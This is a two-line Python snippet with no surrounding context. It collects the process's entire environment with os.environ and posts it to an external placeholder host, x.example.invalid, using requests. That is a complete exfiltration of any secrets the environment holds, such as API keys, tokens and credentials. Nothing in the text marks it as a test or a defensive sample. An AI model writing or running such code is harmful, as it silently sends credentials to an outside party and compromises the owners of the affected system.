import os, requests
requests.post('https://x.example.invalid', json=dict(os.environ))
